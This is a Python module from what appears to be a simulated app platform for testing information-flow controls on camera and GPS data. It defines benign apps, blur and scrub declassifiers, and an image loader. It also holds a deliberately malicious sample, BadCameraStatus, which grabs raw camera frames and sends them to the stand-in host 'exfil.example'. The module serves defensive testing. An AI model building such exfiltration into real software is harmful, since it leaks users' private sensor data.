"""Simulated application binaries and the loader that runs them.

A binary image is ``b"\\x7fSIM" + program name + b"\\0" + body``.  The loader
picks behaviour from the *actual* image bytes, so presenting a malicious
image under a benign identity runs the malicious code, exactly like swapping
an executable on disk.
"""

from __future__ import annotations

import hashlib
import logging
import random
import struct
from typing import Optional

from ..errors import ManifestDenied, PermissionDenied
from ..kernels import pixelate
from ..middleware import AppContext, Program
from ..model import CAMERA, GPS, TAMPERLOG, TopicKey

log = logging.getLogger(__name__)

IMAGE_MAGIC = b"\x7fSIM"

CAM_TOPIC = "CameraOutput"
IMAGE_TYPE = "ImageType"
STATUS_TYPE = "StatusType"
SANITIZED_TOPIC = "SanitizedStatus"
BLURRED_TOPIC = "BlurredImage"
NAV_TOPIC = "NavFrame"
POSITION_TOPIC = "Position"
FIX_TYPE = "Fix"
RECEIPT_TOPIC = "LaneReceipt"

FRAME_MAGIC = b"IMG1"
FRAME_HEADER = struct.Struct(">4sIHH")
FRAME_SIZE = 64
SECOND = 1_000_000
DEFAULT_PERIOD = 100_000  # 10 Hz

HEALTH_OK = 0x01

# -- sensitive payloads ----------------------------------------------------

SENTINEL_LEN = 64
WINDOW = 16


def make_sentinel(seed: int, size: int = SENTINEL_LEN, window: int = WINDOW) -> bytes:
    """High-entropy marker whose every cyclic ``window``-byte slice is distinctive."""
    rng = random.Random(seed)
    while True:
        s = bytes(rng.getrandbits(8) for _ in range(size))
        ring = s + s[: window - 1]
        if all(len(set(ring[i : i + window])) >= 12 for i in range(size)):
            return s


def sentinel_windows(sentinel: bytes, window: int = WINDOW) -> frozenset:
    ring = sentinel + sentinel[: window - 1]
    return frozenset(ring[i : i + window] for i in range(len(sentinel)))


def contains_sentinel(payload: bytes, windows) -> bool:
    return any(w in payload for w in windows)


CAMERA_SENTINEL = make_sentinel(0xCA3E7A)
GPS_SENTINEL = make_sentinel(0x6B5F1C)


def camera_pixels(size: int = FRAME_SIZE, sentinel: bytes = CAMERA_SENTINEL) -> bytes:
    """Synthetic grayscale image whose rows tile the sentinel."""
    n = size * size
    reps = n // len(sentinel) + 1
    return (sentinel * reps)[:n]


def gps_fix(seq: int, sentinel: bytes = GPS_SENTINEL) -> bytes:
    lat = 12.97 + seq * 1e-5
    lon = 77.59 + seq * 1e-5
    return b"FIX1" + struct.pack(">dd", lat, lon) + sentinel


def encode_frame(seq: int, width: int, height: int, pixels: bytes) -> bytes:
    return FRAME_HEADER.pack(FRAME_MAGIC, seq, width, height) + pixels


def decode_frame(payload: bytes):
    if len(payload) < FRAME_HEADER.size:
        return None
    magic, seq, w, h = FRAME_HEADER.unpack_from(payload)
    pixels = payload[FRAME_HEADER.size :]
    if magic != FRAME_MAGIC or len(pixels) != w * h:
        return None
    return seq, w, h, pixels


def frame_seq(payload: bytes) -> Optional[int]:
    f = decode_frame(payload)
    return None if f is None else f[0]


# -- programs --------------------------------------------------------------


class _Periodic(Program):
    def period(self) -> int:
        return int(self.args.get("period", DEFAULT_PERIOD))

    def limit(self) -> Optional[int]:
        c = self.args.get("count")
        return None if c is None else int(c)


def _try_subscribe(ctx: AppContext, topic: str, type_name: Optional[str]) -> bool:
    try:
        ctx.subscribe(topic, type_name)
        return True
    except ManifestDenied:
        ctx.log(f"subscribe {topic} refused")
        return False


class Camera(_Periodic):
    """Publishes image and status frames and serves a local preview socket."""

    def on_start(self, ctx):
        self.ctx = ctx
        self.seq = 0
        self.clients = []
        self.sent_at: dict = {}
        ctx.advertise(CAM_TOPIC, IMAGE_TYPE)
        ctx.advertise(CAM_TOPIC, STATUS_TYPE)
        ctx.every(self.period(), self.tick, start=int(self.args.get("start", self.period())))

    def accept(self, obj):
        self.clients.append(obj)

    def tick(self):
        ctx = self.ctx
        if self.limit() is not None and self.seq >= self.limit():
            return
        pixels = ctx.read_sensor(CAMERA)
        if pixels is None:
            return
        self.seq += 1
        size = int(self.args.get("size", FRAME_SIZE))
        frame = encode_frame(self.seq, size, len(pixels) // size, pixels)
        self.sent_at[self.seq] = ctx.now
        ctx.publish(CAM_TOPIC, IMAGE_TYPE, frame)
        ctx.publish(CAM_TOPIC, STATUS_TYPE, bytes([HEALTH_OK]) + b"frame=%d" % self.seq)
        for obj in list(self.clients):
            try:
                ctx.kernel.stream_send(ctx.pid, obj, frame)
            except PermissionDenied:
                self.clients.remove(obj)


class CameraStatus(Program):
    """Forwards camera status to the status server.

    ``type`` selects the subscribed message type; leaving it unset subscribes
    to the whole topic, which also delivers image frames.
    """

    def on_start(self, ctx):
        _try_subscribe(ctx, CAM_TOPIC, self.args.get("type", STATUS_TYPE))

    def on_message(self, ctx, key, payload):
        ctx.net_send(self.args.get("address", "status.fleet:443"), payload)


class BadCameraStatus(Program):
    """Exfiltrates whatever camera data it can reach to the network."""

    def on_start(self, ctx):
        self.ctx = ctx
        _try_subscribe(ctx, CAM_TOPIC, None)
        if self.args.get("direct"):
            ctx.call_later(int(self.args.get("connect_at", 0)), self.connect)

    def connect(self):
        ctx = self.ctx
        cam = ctx.pid_of(self.args.get("camera", "Camera"))
        if cam is None:
            return
        try:
            obj = ctx.kernel.connect(ctx.pid, cam)
        except PermissionDenied as exc:
            ctx.log(f"direct channel refused: {exc}")
            return
        ctx.runtime.procs[cam].program.accept(obj)
        self.obj = obj
        ctx.every(DEFAULT_PERIOD, self.drain, start=DEFAULT_PERIOD // 2)

    def drain(self):
        for data in self.ctx.kernel.stream_recv(self.ctx.pid, self.obj):
            self.exfiltrate(self.ctx, data)

    def exfiltrate(self, ctx, payload):
        ctx.net_send(self.args.get("address", "exfil.example:80"), payload)

    def on_message(self, ctx, key, payload):
        self.exfiltrate(ctx, payload)


class ScrubStatus(Program):
    """Trusted declassifier: one health byte, at most once per interval."""

    def on_start(self, ctx):
        self.last = None
        ctx.subscribe(self.args.get("in_topic", CAM_TOPIC), self.args.get("in_type", STATUS_TYPE))
        ctx.advertise(self.args.get("out_topic", SANITIZED_TOPIC), "byte")

    def on_message(self, ctx, key, payload):
        interval = int(self.args.get("interval", 10 * SECOND))
        if not payload or (self.last is not None and ctx.now - self.last < interval):
            return
        self.last = ctx.now
        ctx.publish(self.args.get("out_topic", SANITIZED_TOPIC), "byte", payload[:1])


class BlurFilter(Program):
    """Trusted declassifier: 16x16 block pixelation of image frames."""

    forward_only = False

    def on_start(self, ctx):
        ctx.subscribe(self.args.get("in_topic", CAM_TOPIC), self.args.get("in_type", IMAGE_TYPE))
        ctx.advertise(self.args.get("out_topic", BLURRED_TOPIC), IMAGE_TYPE)

    def transform(self, payload: bytes) -> Optional[bytes]:
        f = decode_frame(payload)
        if f is None:
            return None  # fail closed on anything that is not a frame
        seq, w, h, pixels = f
        return encode_frame(seq, w, h, pixelate(pixels, w, h, int(self.args.get("block", 16))))

    def compute_us(self, payload: bytes) -> int:
        """Simulated processing time, proportional to the pixel count."""
        return int(len(payload) * float(self.args.get("us_per_pixel", 0.05)))

    def on_message(self, ctx, key, payload):
        out = self.transform(payload)
        if out is None:
            return
        ctx.call_later(self.compute_us(payload), self.emit, ctx, out)

    def emit(self, ctx, out):
        ctx.publish(self.args.get("out_topic", BLURRED_TOPIC), IMAGE_TYPE, out)
        egress = self.args.get("egress")
        if egress:
            ctx.net_send(egress, out)


class NullFilter(BlurFilter):
    """Interposed hop that forwards frames unchanged (overhead baseline)."""

    def transform(self, payload: bytes) -> Optional[bytes]:
        return payload

    def compute_us(self, payload: bytes) -> int:
        return 0


class Navigator(Program):
    """Needs the raw feed; republishes frames for mapping and uploads them."""

    def on_start(self, ctx):
        ctx.subscribe(CAM_TOPIC, IMAGE_TYPE)
        ctx.advertise(NAV_TOPIC, IMAGE_TYPE)

    def on_message(self, ctx, key, payload):
        ctx.publish(NAV_TOPIC, IMAGE_TYPE, payload)
        addr = self.args.get("map_address")
        if addr:
            ctx.net_send(addr, payload)


class FleetUplink(Program):
    """Sends every received message to each configured address."""

    def on_start(self, ctx):
        _try_subscribe(ctx, self.args.get("topic", CAM_TOPIC), self.args.get("type", IMAGE_TYPE))

    def on_message(self, ctx, key, payload):
        for addr in self.args.get("addresses", ("fleet.coordinator:443",)):
            ctx.net_send(addr, payload)


class GpsReader(_Periodic):
    def on_start(self, ctx):
        self.ctx = ctx
        self.seq = 0
        ctx.advertise(POSITION_TOPIC, FIX_TYPE)
        ctx.every(self.period(), self.tick, start=self.period())

    def tick(self):
        if self.limit() is not None and self.seq >= self.limit():
            return
        fix = self.ctx.read_sensor(GPS)
        if fix is None:
            return
        self.seq += 1
        self.ctx.publish(POSITION_TOPIC, FIX_TYPE, fix)


class TrustedLogger(Program):
    """Writes fixes to the tamper-evident log; downstream gets receipts only."""

    def on_start(self, ctx):
        ctx.subscribe(POSITION_TOPIC, FIX_TYPE)
        ctx.advertise(RECEIPT_TOPIC, "Receipt")

    def on_message(self, ctx, key, payload):
        ctx.write_sink(TAMPERLOG, payload)
        ctx.publish(RECEIPT_TOPIC, "Receipt", b"RCPT" + hashlib.sha256(payload).digest()[:8])


class Telemetry(Program):
    def on_start(self, ctx):
        _try_subscribe(ctx, POSITION_TOPIC, None)

    def on_message(self, ctx, key, payload):
        ctx.net_send(self.args.get("address", "telemetry.example:443"), payload)


class BenchPublisher(_Periodic):
    """Fixed-size payloads at a fixed cadence; the first 4 bytes carry the sequence."""

    def on_start(self, ctx):
        self.ctx = ctx
        self.seq = 0
        self.sent_at: dict = {}
        self.key = TopicKey(self.args.get("topic", "bench"), self.args.get("type", "payload"))
        ctx.advertise(self.key.topic, self.key.type_name)
        size = int(self.args.get("size", 32))
        self.filler = bytes(max(size - 4, 0))
        ctx.every(self.period(), self.tick, start=self.period())

    def tick(self):
        if self.limit() is not None and self.seq >= self.limit():
            return
        self.seq += 1
        self.sent_at[self.seq] = self.ctx.now
        self.ctx.publish(self.key.topic, self.key.type_name, struct.pack(">I", self.seq) + self.filler)


class BenchSubscriber(Program):
    def on_start(self, ctx):
        self.received: dict = {}
        ctx.subscribe(self.args.get("topic", "bench"), self.args.get("type", "payload"))

    def on_message(self, ctx, key, payload):
        self.received[struct.unpack_from(">I", payload)[0]] = ctx.now


class PlatformApp(Program):
    """Generic app for synthetic platforms: exercises each declared flow once."""

    def on_start(self, ctx):
        self.ctx = ctx
        topic = self.args.get("publishes")
        if topic:
            ctx.advertise(topic, self.args.get("type", "msg"))
        for t in self.args.get("subscribes", ()):
            ctx.subscribe(t, self.args.get("type", "msg"))
        ctx.call_later(int(self.args.get("at", DEFAULT_PERIOD)), self.act)

    def act(self):
        ctx = self.ctx
        topic = self.args.get("publishes")
        if topic:
            ctx.publish(topic, self.args.get("type", "msg"), b"x" * 8)
        for s in self.args.get("sensors", ()):
            ctx.read_sensor(s)
        addr = self.args.get("address")
        if addr:
            ctx.net_send(addr, b"report")
        path = self.args.get("file")
        if path:
            try:
                ctx.kernel.create_file(ctx.pid, path)
                ctx.kernel.write_file(ctx.pid, path, b"data")
            except PermissionDenied:
                ctx.log(f"file {path} refused")
        if self.args.get("tamperlog"):
            ctx.write_sink(TAMPERLOG, b"entry")


PROGRAMS = {
    cls.__name__: cls
    for cls in (
        Camera,
        CameraStatus,
        BadCameraStatus,
        ScrubStatus,
        BlurFilter,
        NullFilter,
        Navigator,
        FleetUplink,
        GpsReader,
        TrustedLogger,
        Telemetry,
        BenchPublisher,
        BenchSubscriber,
        PlatformApp,
    )
}


def make_image(program: str, salt: bytes = b"") -> bytes:
    """Deterministic executable image for ``program``; ``salt`` varies the digest."""
    if program not in PROGRAMS:
        raise KeyError(program)
    body = hashlib.sha256(program.encode() + b"\0" + salt).digest() * 8
    return IMAGE_MAGIC + program.encode() + b"\0" + salt + b"\0" + body


def program_name(image: bytes) -> Optional[str]:
    if not image.startswith(IMAGE_MAGIC):
        return None
    name, sep, _ = image[len(IMAGE_MAGIC) :].partition(b"\0")
    return name.decode("ascii", "replace") if sep else None


def load_program(image: bytes, args: Optional[dict] = None) -> Optional[Program]:
    cls = PROGRAMS.get(program_name(image) or "")
    return None if cls is None else cls(args)
